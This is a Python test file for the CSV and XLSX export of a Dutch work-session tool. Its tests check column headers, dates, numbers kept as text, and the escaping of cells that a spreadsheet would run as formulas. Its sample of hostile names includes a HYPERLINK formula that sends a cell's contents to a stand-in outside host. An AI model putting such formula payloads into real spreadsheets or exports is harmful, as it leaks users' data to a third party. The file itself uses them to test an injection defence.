"""The record lists as CSV and XLSX: read back by the csv module and by openpyxl, as the
spreadsheet the coach opens them in would, with the cells a spreadsheet would run kept text."""

from __future__ import annotations

import csv
import datetime as dt
import io

from openpyxl import load_workbook

from tests.export.demo_document import demo_document
from worksession.domain.interchange import Document
from worksession.export.csv_table import csv_bytes
from worksession.export.record_lists import LIST_NAMES, RECORD_LISTS
from worksession.export.xlsx_workbook import workbook_bytes
from worksession.i18n import speaking

# Text a spreadsheet would run as a formula, as a participant's name could be typed or imported.
HOSTILE = [
    '=HYPERLINK("https://example.invalid/?"&A1,"klik")',
    "+31 6 12345678",
    "-2+3",
    "@SUM(A1:A9)",
    "\tverborgen",
    "\r=1+1",
]


def _hostile_document() -> Document:
    document = demo_document()
    for person, name in zip(document["participants"], HOSTILE, strict=False):
        person["name"] = name
    document["participants"][-1]["registration"] = "01234567890"  # a BIG number: leading zero
    return document


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM a Dutch Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_agreements_csv_is_one_row_per_agreement_in_the_plans_order() -> None:
    document = demo_document()
    rows = _rows(csv_bytes(document, "agreements"))
    header, body = rows[0], rows[1:]
    assert header == [
        "Thema", "Nr.", "Soort", "Wat", "Trekker", "Partners", "Wanneer", "Middelen",
        "Hoe zien we dat het werkt", "Status",
    ]  # fmt: skip
    assert len(body) == len(document["agreements"])
    assert [row[1] for row in body] == [f"A{n}" for n in range(1, len(body) + 1)]
    first = next(row for row in body if row[3].startswith("Huisarts, POH's"))
    assert first[0] == "Eenzaamheid" and first[4] == "Marieke Hermans"
    assert first[5] == "Yvonne Kessels, Wendy Pelzer"
    assert first[6] == "2026-04-30" and first[9] == "open"
    dates = [row[6] for row in body if row[0] == "Eenzaamheid"]
    assert dates == sorted(dates)  # within a theme by date, as the plan numbers them


def test_every_list_is_a_csv_with_its_own_header() -> None:
    document = demo_document()
    for entry in RECORD_LISTS:
        rows = _rows(csv_bytes(document, entry.name))
        assert len(rows[0]) == len(entry.columns)
        assert all(len(row) == len(entry.columns) for row in rows)
    assert len(_rows(csv_bytes(document, "participants"))) == len(document["participants"]) + 1


def test_csv_cells_that_would_run_as_a_formula_get_an_apostrophe() -> None:
    rows = _rows(csv_bytes(_hostile_document(), "participants"))
    names = [row[0] for row in rows[1 : len(HOSTILE) + 1]]
    assert names == ["'" + name for name in HOSTILE]
    assert rows[len(HOSTILE) + 1][0] == demo_document()["participants"][len(HOSTILE)]["name"]
    assert rows[-1][7] == "01234567890"


def test_the_workbook_has_a_sheet_per_list_with_a_bold_frozen_header() -> None:
    book = load_workbook(io.BytesIO(workbook_bytes(demo_document())))
    assert len(book.sheetnames) == len(LIST_NAMES)
    assert book.sheetnames[:2] == ["Samenwerkingsafspraken", "Prioriteiten"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        widths = [dimension.width for dimension in sheet.column_dimensions.values()]
        assert widths and all(6 <= width <= 60 for width in widths)


def test_workbook_dates_are_dates_and_numbers_numbers() -> None:
    sheet = load_workbook(io.BytesIO(workbook_bytes(demo_document())))["Samenwerkingsafspraken"]
    header = [cell.value for cell in sheet[1]]
    due = [row[header.index("Wanneer")] for row in sheet.iter_rows(min_row=2)]
    assert due and all(cell.is_date for cell in due if cell.value is not None)
    assert {cell.value.date() for cell in due if cell.value} >= {dt.date(2026, 4, 30)}
    assert due[0].number_format == "DD-MM-YYYY"
    themes = load_workbook(io.BytesIO(workbook_bytes(demo_document())))["Prioriteiten"]
    assert [cell.value for cell in themes["D"][1:4]] == [15, 12, 10]  # votes, as numbers


def test_workbook_cells_that_look_like_formulas_are_strings() -> None:
    book = load_workbook(io.BytesIO(workbook_bytes(_hostile_document())))
    sheet = book["Deelnemers"]
    names = sheet["A"][1 : len(HOSTILE) + 1]
    assert [cell.value for cell in names] == HOSTILE
    assert all(cell.data_type == "s" for cell in names)
    assert not [
        cell.coordinate
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    number = sheet.cell(row=sheet.max_row, column=8)
    assert number.value == "01234567890" and number.data_type == "s"
    assert number.number_format == "@"  # and it stays text when the coach types over it


def test_a_control_character_an_xlsx_cannot_hold_does_not_stop_the_export() -> None:
    document = demo_document()
    document["agreements"][0]["what"] = "Bel\x07 de POH\x00"
    sheet = load_workbook(io.BytesIO(workbook_bytes(document)))["Samenwerkingsafspraken"]
    assert "Bel\ufffd de POH\ufffd" in [cell.value for cell in sheet["D"]]
    assert "Bel\x07 de POH\x00" in csv_bytes(document, "agreements").decode("utf-8-sig")


def test_a_document_without_optional_lists_exports_empty_sheets() -> None:
    document: Document = {"format": "worksession/1", "session": {"title": "Leeg"}}
    book = load_workbook(io.BytesIO(workbook_bytes(document)))
    assert all(sheet.max_row == 1 for sheet in book.worksheets)
    assert _rows(csv_bytes(document, "agreements"))[1:] == []


def test_the_participants_evaluation_forms_are_a_list_of_their_own() -> None:
    document = demo_document()
    document["feedback_forms"] = [
        {"key": "f-1", "score": 8, "takeaway": "Wie de ouderenadviseur is", "to_improve": ""},
        {"key": "f-2", "score": None, "takeaway": "", "to_improve": "=meer pauze"},
    ]
    rows = _rows(csv_bytes(document, "feedback"))
    assert rows == [
        ["Cijfer (1–10)", "Wat neemt u mee?", "Wat kan beter?"],
        ["8", "Wie de ouderenadviseur is", ""],
        ["", "", "'=meer pauze"],
    ]
    sheet = load_workbook(io.BytesIO(workbook_bytes(document)))["Evaluatieformulieren"]
    assert [cell.value for cell in sheet["A"]] == ["Cijfer (1–10)", 8, None]


def _invite_list() -> Document:
    """The invite list's fields: initials, a register and its number, and each status."""
    document = demo_document()
    people = document["participants"][:4]
    people[0].update(registration_type="big", registration="01234567890", present=True)
    people[1].update(registration_type="other", registration="R-12", present=False)
    people[1]["invitation"] = "invited"
    people[2].update(registration_type="", registration="", present=False)
    people[2]["invitation"] = "declined"
    people[3].update(present=False, invitation="registered")
    document["participants"] = people
    return document


def test_the_participants_list_has_the_invite_lists_columns_in_words() -> None:
    rows = _rows(csv_bytes(_invite_list(), "participants"))
    assert rows[0] == [
        "Naam", "Voorletters", "Organisatie", "Rol", "Domein", "E-mail", "Register",
        "Registratienummer", "Status",
    ]  # fmt: skip
    assert (rows[1][1], rows[2][1]) == ("M.", "I.")
    assert [row[6:] for row in rows[1:4]] == [
        ["BIG", "01234567890", "aanwezig"],
        ["ander register", "R-12", "uitgenodigd"],  # the register's words, as on Voorbereiding
        ["", "", "afgemeld"],  # no register: an empty cell
    ]
    assert rows[4][8] == "aangemeld"
    with speaking("en"):
        english = _rows(csv_bytes(_invite_list(), "participants"))
    assert english[0][6:] == ["Registration type", "Registration number", "Status"]
    assert [row[8] for row in english[1:]] == ["present", "invited", "declined", "registered"]


def test_the_participants_sheet_keeps_the_number_as_text() -> None:
    sheet = load_workbook(io.BytesIO(workbook_bytes(_invite_list())))["Deelnemers"]
    header = [cell.value for cell in sheet[1]]
    number = sheet.cell(row=2, column=header.index("Registratienummer") + 1)
    assert number.value == "01234567890" and number.data_type == "s"
    assert sheet.cell(row=2, column=header.index("Status") + 1).value == "aanwezig"
